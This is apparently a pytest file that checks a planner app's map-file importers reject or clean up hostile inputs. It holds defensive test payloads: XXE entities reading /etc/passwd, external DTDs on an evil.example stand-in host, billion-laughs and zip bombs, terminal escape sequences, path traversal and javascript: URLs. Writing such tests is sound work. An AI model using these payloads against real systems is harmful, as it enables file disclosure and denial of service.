"""Files made to harm: refused or made harmless, with memory bounded and nothing lost beside."""

from __future__ import annotations

import json
import tracemalloc
import zipfile
from typing import TYPE_CHECKING

import pytest

from planner.errors import UnreadableFileError
from planner.library import importers
from planner.library.findings import LONGEST_NAME, LONGEST_TEXT

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "' + (f"&a{n - 1};" if n else "&a;") * 10 + '">' for n in range(9))
    + "]><kml><Placemark><name>&a8;</name></Placemark></kml>"
)


@pytest.mark.parametrize(
    "text",
    [
        LAUGHS,
        '<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml><Placemark><name>&x;</name></Placemark></kml>',
        '<!DOCTYPE kml SYSTEM "http://evil.example/x.dtd"><kml><Placemark><name>a</name></Placemark></kml>',
        '<!DOCTYPE kml [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><kml/>',
        "<kml>" + "<Folder>" * 50_000,
        "<kml><Placemark>" + "<a>" * 50_000,
    ],
    ids=["laughs", "file", "dtd", "parameter", "deep", "deep-inside"],
)
@pytest.mark.parametrize("kind", ["kml", "gpx"])
def test_attacks_of_xml_are_refused_whole(kind: str, text: str, read_text: Callable) -> None:
    with pytest.raises(UnreadableFileError, match="is refused") as caught:
        read_text(f"p.{kind}", text.replace("kml", kind).replace("Placemark", "wpt"))
    assert caught.value.next_step


def test_an_archive_that_unpacks_without_end_is_stopped(
    tmp_path: Path, read: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.archive.LARGEST_ENTRY", 4 << 20)
    path = tmp_path / "bomb.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("doc.kml", b"<kml>" + b" " * (20 << 20) + b"</kml>")
    assert path.stat().st_size < 1 << 16
    tracemalloc.start()
    with pytest.raises(UnreadableFileError, match="more than 4 MiB"):
        read(path)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 8 << 20


def test_all_that_an_archive_unpacks_to_is_counted(
    tmp_path: Path, read: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.archive.LARGEST_ARCHIVE", 1 << 20)
    path = tmp_path / "bomb.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for number in range(10):
            zipped.writestr(f"{number}.kml", b"<kml>" + b" " * (1 << 18) + b"</kml>")
    with pytest.raises(UnreadableFileError, match="more than 1 MiB"):
        read(path)


def test_what_an_archive_unpacks_to_counts_once(
    tmp_path: Path, read: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.archive.LARGEST_ARCHIVE", 1 << 20)
    path = tmp_path / "large.kmz"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        for number in range(2):
            text = b"<kml><Placemark><name>A</name></Placemark>" + b" " * (400 << 10) + b"</kml>"
            zipped.writestr(f"{number}.kml", text)
    assert read(path).names == ["A", "A"]


def test_an_archive_of_too_many_files_is_refused(
    tmp_path: Path, read: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.archive.MOST_ENTRIES", 10)
    path = tmp_path / "many.kmz"
    with zipfile.ZipFile(path, "w") as zipped:
        for number in range(11):
            zipped.writestr(f"{number}.kml", b"<kml/>")
    with pytest.raises(UnreadableFileError, match="more than 10 files"):
        read(path)


def long_name(kind: str, name: str) -> str:
    if kind == "csv":
        return f"name,lat,lon\n{name},60,24\nafter,60,25\n"
    if kind == "geojson":
        made = [
            {"type": "Feature", "properties": {"name": each}, "geometry": {"type": "Point", "coordinates": [24, 60]}}
            for each in (name, "after")
        ]  # fmt: skip
        return json.dumps({"type": "FeatureCollection", "features": made})
    if kind == "kml":
        return (
            "<kml>"
            + "".join(f"<Placemark><name>{each}</name></Placemark>" for each in (name, "after"))
            + "</kml>"
        )
    return (
        "<gpx>"
        + "".join(f'<wpt lat="60" lon="24"><name>{each}</name></wpt>' for each in (name, "after"))
        + "</gpx>"
    )


@pytest.mark.parametrize("kind", ["csv", "geojson", "kml", "gpx"])
def test_a_name_of_megabytes_is_cut_and_told(kind: str, read_text: Callable) -> None:
    name = "Long Street " * 100_000
    got = read_text(f"p.{kind}", long_name(kind, name.strip()))
    assert len(got.findings) == 2
    assert got.findings[0].name == name[:LONGEST_NAME].strip()
    # What was cut off is not lost, as far as notes reach.
    assert len(got.findings[0].notes) > LONGEST_TEXT - 100
    assert got.findings[1].name == "after"
    assert any("name is longer than" in remark for remark in got.remarks)


@pytest.mark.parametrize("kind", ["csv", "kml", "gpx"])
def test_a_name_beyond_all_bounds_costs_its_own_row(
    kind: str, read_text: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.table.LONGEST_LINE", 1 << 18)
    monkeypatch.setattr("planner.library.importers.xmlstream.LARGEST_RECORD", 1 << 18)
    got = read_text(f"p.{kind}", long_name(kind, "n" * (1 << 20)))
    assert got.names == ["after"]
    assert len(got.refusals) == 1
    assert "longer than" in got.refusals[0].reason


HOSTILE = "\x1b[31mRed\x1b[0m \x9b5m[bold red]x[/bold red]\x07\x00\u202egnp.exe\u2066"


@pytest.mark.parametrize("kind", ["csv", "geojson", "kml", "gpx"])
def test_nothing_that_steers_a_terminal_comes_through(kind: str, read_text: Callable) -> None:
    text = long_name(kind, HOSTILE)
    name = read_text(f"p.{kind}", text).findings[0].name
    assert name.isprintable()
    assert "[bold red]x[/bold red]" in name


def test_markup_and_paths_in_texts_stay_texts(read_text: Callable) -> None:
    got = read_text(
        "p.csv",
        "name,notes,url\n../../etc/passwd,<script>x</script>see <b>this</b>,javascript:alert(1)\n",
    )
    assert got.only.name == "../../etc/passwd"
    assert got.only.url is None
    assert got.only.notes == "see this; javascript:alert(1)"


def test_json_that_nests_without_end_is_refused(read_text: Callable) -> None:
    for text in (
        '{"features": ' + "[" * 200_000,
        '{"features": [{"properties": ' + '{"a":' * 200_000,
    ):
        with pytest.raises(UnreadableFileError, match="too deep"):
            read_text("p.geojson", text)


def test_a_shape_of_too_many_points_costs_its_own_feature(
    read_text: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.shapes.MOST_VERTICES", 100)
    made = [
        {"type": "Feature", "properties": {"name": "huge"}, "geometry": {"type": "MultiPoint", "coordinates": [[24, 60]] * 1000}},
        {"type": "Feature", "properties": {"name": "fine"}, "geometry": {"type": "Point", "coordinates": [24, 60]}},
    ]  # fmt: skip
    got = read_text("p.geojson", json.dumps({"type": "FeatureCollection", "features": made}))
    assert got.names == ["fine"]
    assert "more than 100 points" in got.refusals[0].reason


def test_an_id_that_comes_twice_stays_with_the_first(read_text: Callable) -> None:
    got = read_text("p.csv", "flaneur_id,name,lat,lon\nabc,A,60,24\nabc,B,61,24\n")
    assert [finding.id for finding in got.findings] == ["abc", None]
    assert any("was there before" in remark for remark in got.remarks)


def test_a_page_that_nests_without_end_is_refused(read_text: Callable) -> None:
    with pytest.raises(UnreadableFileError, match="nest deeper"):
        read_text("p.html", "<html><body>" + "<div>t<b>" * 20_000)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.bin", bytes(range(256)) * 50),
        ("a.txt", b"\x00" * 5000),
        ("a.csv", b"\n\n\n"),
        ("a.csv", b""),
        ("a.zip", b"PK\x05\x06" + b"\x00" * 18),
        ("a.json", b""),
    ],
)
def test_what_is_nothing_is_refused_with_a_next_step(
    name: str, content: bytes, read_text: Callable
) -> None:
    with pytest.raises(UnreadableFileError) as caught:
        read_text(name, content)
    assert caught.value.next_step


def test_folders_devices_and_absent_files_are_refused(tmp_path: Path) -> None:
    for path in (tmp_path, tmp_path / "absent.csv", tmp_path / ("x" * 5000)):
        with pytest.raises(UnreadableFileError):
            importers.read(path)


def test_a_file_beyond_all_bounds_is_refused(
    read_text: Callable, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("planner.library.importers.reading.LARGEST_FILE", 10)
    with pytest.raises(UnreadableFileError, match="larger than"):
        read_text("p.csv", "name,lat,lon\nA,60,24\n")
